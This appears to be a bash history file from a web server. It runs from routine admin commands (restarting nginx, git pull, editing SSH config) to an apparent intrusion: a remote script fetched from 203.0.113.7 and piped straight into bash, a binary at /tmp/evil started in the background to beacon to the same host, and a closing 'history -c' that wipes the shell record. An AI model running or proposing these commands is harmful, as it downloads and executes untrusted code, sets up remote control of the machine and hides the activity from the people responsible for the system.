ls -la
cd /var/www/html
sudo systemctl restart nginx
#1768462950
git pull --rebase
#1768462990
vim ~/.ssh/config
#1768463001
#1768463002
curl -s http://203.0.113.7/payload.sh | bash

chmod +x /tmp/evil && /tmp/evil --beacon 203.0.113.7 &
echo café au lait
#1768463400
history -c
exit